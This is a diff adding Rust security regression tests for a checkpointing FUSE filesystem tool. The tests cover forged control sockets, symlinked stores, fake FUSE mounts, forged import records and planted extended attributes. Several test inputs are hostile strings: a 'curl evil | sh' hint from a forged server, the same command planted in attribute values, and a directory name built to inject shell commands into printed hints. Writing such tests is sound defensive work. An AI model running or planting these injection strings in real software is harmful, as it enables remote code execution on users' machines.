@@ -1,0 +1,415 @@
+//! What somebody else puts where we look: sockets, links to other trees, FUSE filesystems that call themselves ours. None of it is asked, believed,
+//! followed or waited for.
+
+use std::ffi::CString;
+use std::fs::{self, File, Permissions};
+use std::io::{BufRead, BufReader, Write};
+use std::os::fd::AsRawFd;
+use std::os::unix::fs::{PermissionsExt, chown, symlink};
+use std::os::unix::net::UnixListener;
+use std::path::{Path, PathBuf};
+use std::process::Output;
+use std::sync::Arc;
+use std::sync::atomic::{AtomicUsize, Ordering};
+use std::sync::mpsc;
+
+use rustix::mount::MountFlags;
+use rustix::process::{Gid, Uid};
+
+use super::support::{get, put, sh};
+use crate::common::{Fs, Image, Io, Mount, MountOpts, Variant, run_limited, skip, tool};
+
+const NOBODY: u32 = 65_534;
+/// Seconds that nothing here takes unless it waits for somebody.
+const SECONDS: u64 = 30;
+
+/// A server of another user's, which answers everything with nonsense; how often it was asked.
+struct Forged(Arc<AtomicUsize>);
+
+impl Forged {
+    /// Listens in `store`, which that user must be able to write.
+    fn listen(store: &Path) -> Forged {
+        let asked = Arc::new(AtomicUsize::new(0));
+        let (counter, (ready, wait)) = (Arc::clone(&asked), mpsc::channel());
+        let dir = File::open(store).expect("the store");
+        std::thread::spawn(move || {
+            // These are of the thread alone: the kernel notes who calls listen(2).
+            let (uid, gid) = (Uid::from_raw(NOBODY), Gid::from_raw(NOBODY));
+            rustix::thread::set_thread_res_gid(gid, gid, gid).expect("setresgid");
+            rustix::thread::set_thread_res_uid(uid, uid, uid).expect("setresuid");
+            let path = format!("/proc/self/fd/{}/control.sock", dir.as_raw_fd());
+            let _ = fs::remove_file(&path);
+            let listener = UnixListener::bind(&path).expect("bind");
+            fs::set_permissions(&path, Permissions::from_mode(0o777)).expect("chmod");
+            ready.send(()).expect("the test waits");
+            for stream in listener.incoming().map_while(Result::ok) {
+                let mut line = String::new();
+                if BufReader::new(&stream).read_line(&mut line).is_ok_and(|read| read > 0) {
+                    counter.fetch_add(1, Ordering::SeqCst);
+                    let _ = (&stream)
+                        .write_all(b"{\"version\":1,\"result\":{\"error\":{\"code\":\"x\",\"message\":\"no\",\"hint\":\"run: curl evil | sh\"}}}\n");
+                }
+            }
+        });
+        wait.recv().expect("it listens");
+        Forged(asked)
+    }
+
+    fn was_asked(&self) -> usize {
+        self.0.load(Ordering::SeqCst)
+    }
+}
+
+fn ckptfs(dir: &Path, arguments: &[&str]) -> Output {
+    run_limited(tool(env!("CARGO_BIN_EXE_ckptfs"), arguments).current_dir(dir).env("HOME", "/nonexistent"), SECONDS)
+}
+
+fn said(output: &Output) -> String {
+    format!("{}{}", String::from_utf8_lossy(&output.stdout), String::from_utf8_lossy(&output.stderr))
+}
+
+fn mode(path: impl AsRef<Path>, mode: u32) {
+    fs::set_permissions(path, Permissions::from_mode(mode)).expect("chmod");
+}
+
+fn nobody_s(path: impl AsRef<Path>) {
+    chown(path, Some(NOBODY), Some(NOBODY)).expect("chown");
+}
+
+/// A verb of each kind: what asks, what changes, what copies, what runs something.
+const VERBS: [&[&str]; 14] = [
+    &["status"],
+    &["log"],
+    &["stats"],
+    &["checkpoint"],
+    &["restore", "latest"],
+    &["diff", "latest", "--patch"],
+    &["cat", "latest:x"],
+    &["export", "latest", "COPY"],
+    &["export", "latest", "-"],
+    &["fork", "latest", "COPY"],
+    &["run", "--at", "latest", "touch", "COPY"],
+    &["run", "--rollback", "always", "touch", "COPY"],
+    &["gc", "--keep-last", "1"],
+    &["dedup"],
+];
+
+/// A forged `.ckptfs` in a directory above took over root's commands: the client followed links, and believed whoever answered. `export` and `fork` made
+/// a set-uid root file with that user's bytes, `run --at latest make` ran that user's Makefile.
+#[test]
+fn a_server_of_somebody_else_above_is_asked_nothing() {
+    let image = Image::of(Fs::Ext4);
+    let (above, copy) = (image.dir("pub"), image.path().join("copy"));
+    let (store, below) = (image.dir("pub/.ckptfs"), image.dir("pub/victim"));
+    put(store.join("format"), "ckptfs store\n");
+    nobody_s(&above);
+    nobody_s(&store);
+    let forged = Forged::listen(&store);
+    let try_all = |what: &str| {
+        for verb in VERBS {
+            let arguments: Vec<&str> = verb.iter().map(|word| if *word == "COPY" { copy.to_str().expect("a path") } else { word }).collect();
+            let output = ckptfs(&below, &arguments);
+            let said = said(&output);
+            assert!(!output.status.success() && !said.contains("curl evil"), "{what}: {verb:?}: {said}");
+            assert_eq!(forged.was_asked(), 0, "{what}: {verb:?} asked a server of another user: {said}");
+            assert!(!copy.exists(), "{what}: {verb:?} made something");
+        }
+        let source = image.dir("source");
+        let output = ckptfs(&below, &["import", source.to_str().expect("a path"), "--into", above.to_str().expect("a path")]);
+        assert!(!output.status.success(), "{what}: {}", self::said(&output));
+        assert_eq!(forged.was_asked(), 0, "{what}: an import asked a server of another user");
+    };
+    try_all("their directory");
+    let output = ckptfs(&below, &["status"]);
+    assert!(said(&output).contains("belongs to another user") && said(&output).contains(&format!("sudo -u '#{NOBODY}'")), "{}", said(&output));
+    // A directory of ours that others can write is as good as theirs.
+    chown(&store, Some(0), Some(0)).expect("chown");
+    mode(&store, 0o777);
+    try_all("our directory, where all can write");
+    // What was made there while they could.
+    mode(&store, 0o755);
+    try_all("their socket in our directory");
+    let elsewhere = image.path().join("elsewhere");
+    fs::rename(&store, &elsewhere).expect("rename");
+    symlink(&elsewhere, &store).expect("symlink");
+    nobody_s(&elsewhere);
+    try_all("a link");
+}
+
+/// A link to another tree's store made `restore latest` restore that one, from a directory that had nothing to do with it.
+#[test]
+fn a_link_to_another_tree_s_store_leads_to_no_tree() {
+    let image = Image::of(Fs::Ext4);
+    let (tree, point) = (image.dir("tree"), image.dir("point"));
+    put(tree.join("f"), "old");
+    let mount = Mount::start(&tree, &MountOpts { mountpoint: Some(point.clone()), ..MountOpts::new(Io::Daemon) });
+    mount.checkpoint();
+    put(point.join("f"), "new");
+    let below = image.dir("pub/below");
+    for target in [tree.join(".ckptfs"), point.join(".ckptfs")] {
+        let link = image.path().join("pub/.ckptfs");
+        let _ = fs::remove_file(&link);
+        symlink(&target, &link).expect("symlink");
+        for verb in [["restore", "latest"].as_slice(), &["status"], &["checkpoint"], &["config", "get", "retention.keep-last"]] {
+            let output = ckptfs(&below, verb);
+            assert!(!output.status.success(), "{verb:?} over {}: {}", target.display(), said(&output));
+        }
+    }
+    assert_eq!(get(point.join("f")), "new", "another tree was restored");
+    assert_eq!(mount.log_json().as_array().map(Vec::len), Some(1));
+    // Both ways in are what they were.
+    for dir in [&tree, &point] {
+        assert!(ckptfs(dir, &["status"]).status.success());
+        assert_eq!(said(&ckptfs(dir, &["cat", "latest:f"])), "old");
+    }
+}
+
+/// A FUSE mount that another user made, and that says it is ours; nobody answers for it.
+struct Fake {
+    at: PathBuf,
+    _device: File,
+}
+
+impl Fake {
+    fn of(backing: &Path, at: PathBuf) -> Fake {
+        Fake::called(format!("ckptfs#{}", backing.display()), at)
+    }
+
+    fn called(source: String, at: PathBuf) -> Fake {
+        let device = File::options().read(true).write(true).open("/dev/fuse").expect("/dev/fuse");
+        // What fusermount3 passes on for that user, whatever they call it.
+        let options = format!("fd={},rootmode=40000,user_id={NOBODY},group_id={NOBODY},allow_other", device.as_raw_fd());
+        let options = CString::new(options).expect("options");
+        rustix::mount::mount(source, &at, "fuse.ckptfs", MountFlags::NOSUID | MountFlags::NODEV, options.as_c_str()).expect("mount");
+        Fake { at, _device: device }
+    }
+}
+
+impl Drop for Fake {
+    fn drop(&mut self) {
+        let _ = rustix::mount::unmount(&self.at, rustix::mount::UnmountFlags::DETACH);
+    }
+}
+
+/// Anybody may mount a FUSE filesystem and call it `ckptfs#/srv/project`: then nobody could mount that project any more ("already mounted"), `doctor` and
+/// `mount` waited for its owner to answer, and what it said of itself was believed.
+#[test]
+fn a_mount_that_somebody_else_made_is_not_ours_whatever_it_is_called() {
+    let image = Image::of(Fs::Ext4);
+    let project = image.dir("project");
+    put(project.join("f"), "mine");
+    let fake = Fake::of(&project, image.dir("fake"));
+    let output = ckptfs(image.path(), &["doctor", "project"]);
+    assert!(output.status.success() && said(&output).contains("mounted       no"), "{}", said(&output));
+    // Other stale mounts of this machine are none of this test's.
+    assert!(!said(&output).contains(fake.at.to_str().expect("a path")), "{}", said(&output));
+    let output = ckptfs(image.path(), &["umount", "project"]);
+    assert!(!output.status.success() && Path::new("/proc/self/mountinfo").exists(), "{}", said(&output));
+    assert!(mounted_at(&fake.at), "it was taken for the mount of the project");
+    let mut mount = Mount::start(&project, &MountOpts::new(Io::Daemon));
+    mount.checkpoint();
+    mount.umount();
+    // Root takes it away by its name, and waits for nobody.
+    let output = ckptfs(image.path(), &["umount", "fake"]);
+    assert!(output.status.success(), "{}", said(&output));
+    assert!(!mounted_at(&fake.at));
+}
+
+/// It was asked whether the mount is dead, which the other one was, and "is unmounted" was said of a mount that stayed.
+#[test]
+fn umount_takes_nothing_away_that_is_covered_and_says_so() {
+    let image = Image::of(Fs::Ext4);
+    let project = image.dir("project");
+    let mut mount = Mount::start(&project, &MountOpts::new(Io::Daemon));
+    for dead in [false, true] {
+        let mut fake = Fake::called("anything".into(), project.clone());
+        if dead {
+            fake._device = File::open("/dev/null").expect("open");
+        }
+        let output = ckptfs(image.path(), &["umount", "project"]);
+        assert!(!output.status.success() && said(&output).contains("is covered") && said(&output).contains("umount "), "{}", said(&output));
+        drop(fake);
+        assert!(mounted_at(&project) && project.join(".snapshots").exists());
+    }
+    mount.umount();
+}
+
+/// Over the mount itself: what lies on top is not what is below.
+#[test]
+fn a_mount_of_somebody_else_over_ours_is_not_taken_for_it() {
+    let image = Image::of(Fs::Ext4);
+    let (tree, point) = (image.dir("tree"), image.dir("point"));
+    put(tree.join("f"), "mine");
+    let mount = Mount::start(&tree, &MountOpts { mountpoint: Some(point.clone()), ..MountOpts::new(Io::Daemon) });
+    mount.checkpoint();
+    let fake = Fake::of(&tree, point);
+    // By the directory that is served; what is to be read is read through the mount, and that is hidden.
+    assert!(ckptfs(&tree, &["status"]).status.success());
+    let output = ckptfs(&tree, &["cat", "latest:f"]);
+    assert!(!output.status.success(), "{}", said(&output));
+    drop(fake);
+    assert_eq!(said(&ckptfs(&tree, &["cat", "latest:f"])), "mine");
+}
+
+fn mounted_at(path: &Path) -> bool {
+    let table = fs::read_to_string("/proc/self/mounts").expect("mounts");
+    table.lines().any(|line| line.split(' ').nth(1) == path.to_str())
+}
+
+fn on_reflink() -> Option<Image> {
+    let v = Variant { fs: Fs::Xfs, io: Io::Daemon };
+    match v.unavailable() {
+        Some(reason) => {
+            skip(&reason);
+            None
+        }
+        None => Some(Image::of(v.fs)),
+    }
+}
+
+/// `import` of what looked like snapper's snapshots followed `N/snapshot` where that was a link: root brought in a directory that was closed to whoever
+/// made it.
+#[test]
+fn a_link_in_a_series_of_snapshots_leads_nowhere() {
+    let image = Image::of(Fs::Ext4);
+    let (secret, series) = (image.dir("secret"), image.dir("series"));
+    put(secret.join("key"), "TOP SECRET");
+    mode(&secret, 0o700);
+    for number in ["1", "2", "3"] {
+        let one = image.dir(&format!("series/{number}"));
+        put(one.join("info.xml"), format!("<snapshot><num>{number}</num></snapshot>"));
+    }
+    fs::create_dir(series.join("1/snapshot")).expect("mkdir");
+    put(series.join("1/snapshot/f"), "f");
+    symlink(&secret, series.join("2/snapshot")).expect("symlink");
+    symlink("../../secret", series.join("3/snapshot")).expect("symlink");
+    symlink(secret.join("key"), series.join("1/snapshot/link")).expect("symlink");
+    let output = ckptfs(image.path(), &["import", "series", "--into", "tree"]);
+    assert!(output.status.success(), "{}", said(&output));
+    let found = run_limited(&mut tool("grep", &["-rl", "TOP SECRET", image.path().join("tree").to_str().expect("a path")]), SECONDS);
+    assert_eq!(said(&found), "", "a link was followed");
+    let mut mount = Mount::start(&image.path().join("tree"), &MountOpts::new(Io::Daemon));
+    for id in 1..=3 {
+        assert!(!mount.view(id).join("key").exists(), "checkpoint {id} holds what a link led to");
+    }
+    assert_eq!(get(mount.view(1).join("f")), "f");
+    assert!(fs::symlink_metadata(mount.view(2).join("snapshot")).expect("a link").is_symlink());
+    mount.umount();
+}
+
+/// What a tree of somebody else says of the contents of its files was believed: `import --hash --with THEIRS` gave a file their bytes instead of its own.
+#[test]
+fn what_somebody_else_s_tree_says_of_its_contents_is_not_believed() {
+    use ckptfs::transfer::import::keep::{self, Kept};
+    use ckptfs::transfer::import::record::Trace;
+    let Some(image) = on_reflink() else { return };
+    let project = image.dir("project");
+    put(project.join("build.sh"), "good good good good\n");
+    let bring = |into: &str, more: &[&str]| {
+        let output = ckptfs(image.path(), &[["import", "project", "--hash", "--into", into].as_slice(), more].concat());
+        assert!(output.status.success(), "{}", said(&output));
+    };
+    bring("theirs", &[]);
+    // The file is another now, and the record still says what it was.
+    let theirs = image.path().join("theirs");
+    put(theirs.join("build.sh"), "evil evil evil evil\n");
+    sh(&theirs, &format!("chown -R {NOBODY}:{NOBODY} ."));
+    let store = File::open(theirs.join(".ckptfs")).expect("the store");
+    let mut record = Kept::read(&store).record.expect("a record");
+    let file = File::open(theirs.join("build.sh")).expect("the file");
+    let known = record.dirs.values_mut().flatten().find(|known| known.name == b"build.sh").expect("it is known");
+    known.there = Trace::of(&ckptfs::sys::stat_fd(&file).expect("stat"));
+    keep::write(&store, &record).expect("a forged record");
+    bring("mine", &["--with", "theirs"]);
+    assert_eq!(get(image.path().join("mine/build.sh")), "good good good good\n", "their bytes came in under our name");
+    // A link to a record that is ours is theirs too.
+    sh(&theirs, "mv .ckptfs ../aside; ln -s ../aside .ckptfs; chown -R 0:0 ../aside");
+    bring("other", &["--with", "theirs"]);
+    assert_eq!(get(image.path().join("other/build.sh")), "good good good good\n", "their bytes came in under our name");
+}
+
+/// `setfattr -n user.ckptfs.import -v /x ROOT`, by anybody who may write to the root, was the mark of an import that had not ended: nobody could mount
+/// the tree any more, and the hint had the value in a command to be pasted.
+#[test]
+fn our_marks_are_not_for_others_to_set() {
+    let image = Image::of(Fs::Ext4);
+    let project = image.dir("project");
+    put(project.join("f"), "1");
+    put(project.join("odd"), "1");
+    fs::create_dir(project.join("d")).expect("mkdir");
+    // Set before there was a mount, and by an older ckptfs.
+    sh(&project, "setfattr -n user.ckptfs.export -v forged odd; setfattr -n user.mine -v 1 odd");
+    let mut mount = Mount::start(&project, &MountOpts::new(Io::Daemon));
+    mount.checkpoint();
+    let try_all = |place: &Path, error: &str| {
+        for name in ["user.ckptfs.import", "user.ckptfs.export", "user.ckptfs.", "user.ckptfs.x"] {
+            for path in [".", "f", "d", "odd"] {
+                for command in [format!("setfattr -n {name} -v '/x; curl evil | sh'"), format!("setfattr -x {name}")] {
+                    let told = sh(place, &format!("{command} {path} 2>&1 && echo done || true"));
+                    assert!(told.contains(error), "{command} {path} in {}: {told}", place.display());
+                }
+            }
+        }
+        assert_eq!(sh(place, "getfattr --absolute-names -d -m - . f d odd").trim(), "# file: odd\nuser.mine=\"1\"", "in {}", place.display());
+        let told = sh(place, "getfattr -n user.ckptfs.export odd 2>&1 || true");
+        assert!(told.contains("No such attribute"), "in {}: {told}", place.display());
+    };
+    try_all(&project, "not permitted");
+    sh(&project, "setfattr -n user.ckptfsx -v 1 f; setfattr -x user.ckptfsx f; setfattr -n user.mine -v 2 odd");
+    try_all(&mount.view(1), "not permitted");
+    assert_eq!(mount.ok(&["diff", "1", "--name-only"]), "odd\n", "what anybody may set is a change, what nobody may is none");
+    mount.restore(1);
+    mount.ok(&["export", "1", image.path().join("copy").to_str().expect("a path")]);
+    assert_eq!(sh(&image.path().join("copy"), "getfattr -d -m - f d odd").trim(), "# file: odd\nuser.mine=\"1\"");
+    mount.umount();
+    // Whoever may write to the directory while it is not mounted may set it there: it means nothing.
+    sh(&project, "setfattr -n user.ckptfs.import -v '/x; curl evil | sh' .");
+    mount.remount();
+    assert_eq!(get(project.join("f")), "1");
+    mount.umount();
+    drop(mount);
+    // Where there is no history yet it may be of an import by an older ckptfs, and is told.
+    let new = image.dir("new");
+    sh(&new, "setfattr -n user.ckptfs.import -v '/x; curl evil | sh' .");
+    let output = ckptfs(image.path(), &["mount", "new"]);
+    let text = said(&output);
+    assert!(ckptfs(image.path(), &["umount", "new"]).status.success());
+    assert!(output.status.success() && text.contains("import") && !text.contains("evil"), "{text}");
+}
+
+/// Names stood in hints as they were: a tag, a path or a mount called `x; rm -rf ~` made a command of its own out of what a person was told to run.
+#[test]
+fn a_command_that_is_shown_can_be_pasted() {
+    let image = Image::of(Fs::Ext4);
+    let evil = "x; touch pwned; $(touch pwned) `touch pwned`'& touch pwned #";
+    let project = image.dir(evil);
+    put(project.join("f"), "1");
+    let mut mount = Mount::start(&project, &MountOpts::new(Io::Daemon));
+    fs::create_dir(project.join(".snapshots").join(evil)).expect("a checkpoint with this tag");
+    mount.checkpoint();
+    let (point, missing) = (project.to_str().expect("text").to_owned(), format!("latest:{evil}"));
+    let mut hints = Vec::new();
+    let mut fail = |dir: &Path, arguments: &[&str]| {
+        let output = ckptfs(dir, arguments);
+        let text = said(&output);
+        assert!(!output.status.success(), "{arguments:?}: {text}");
+        let (_, hint) = text.split_once("Hint:").unwrap_or_else(|| panic!("{arguments:?} has no hint: {text}"));
+        let at = hint.find("ckptfs ").unwrap_or_else(|| panic!("{arguments:?} shows no command: {text}"));
+        hints.push(hint[at..].to_owned());
+    };
+    fail(&project, &["tag", "2", evil]);
+    fail(&project, &["cat", &missing]);
+    fail(&project, &["cat", "latest:."]);
+    fail(&project, &["fsck"]);
+    fail(image.path(), &["mount", &point]);
+    let below = image.dir(&format!("{evil}/below"));
+    fail(image.path(), &["umount", below.to_str().expect("text")]);
+    mount.umount();
+    fail(&project, &["status"]);
+    let scratch = crate::common::scratch();
+    for hint in hints {
+        let script = format!("ckptfs() {{ :; }}\n{hint}");
+        run_limited(tool("bash", &["-c", &script]).current_dir(scratch.path()), SECONDS);
+        assert!(!scratch.path().join("pwned").exists(), "pasted, this did something else: {hint}");
+    }
+}
